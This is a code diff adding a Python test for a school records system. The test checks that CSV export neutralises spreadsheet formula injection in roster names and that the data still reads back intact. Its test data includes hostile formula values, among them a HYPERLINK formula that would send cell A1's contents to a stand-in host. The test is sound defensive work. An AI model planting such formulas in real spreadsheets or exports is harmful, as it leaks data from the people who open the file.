@@ -346,3 +346,21 @@ def test_a_counselors_compliance_summary_covers_their_schools_only(two_schools, 
         ("org-bay", 2, 1), ("org-hv", 25, mine.total.completed)]  # Yusuf did all three
     assert every.total.enrolled == 27 and every.total.completed == mine.total.completed + 1
     assert compliance.compliance(db, SYSTEM, mods, YEAR, "org-bay").total.enrolled == 2
+
+
+def test_csv_export_defuses_spreadsheet_formulas_and_reads_back_the_same(school, cat):
+    """A roster name like =HYPERLINK(...) must not become a live formula in a spreadsheet."""
+    hostile = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")": "given_name", "+1-555": "family_name",
+               "@SUM(A1)": "identifier", "-2+3": "given_name", "\t=cmd": "family_name"}
+    rows = records.records(school, "t-tanaka", cat.modules.values())
+    import dataclasses
+
+    rows = [dataclasses.replace(rows[i], **{field: text}) for i, (text, field) in enumerate(hostile.items())]
+    out = io.StringIO()
+    records.write_csv(rows, out)
+    import csv as _csv
+
+    cells = [cell for line in list(_csv.reader(io.StringIO(out.getvalue())))[1:] for cell in line]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")" in cells
+    assert records.read_csv(out.getvalue()) == rows
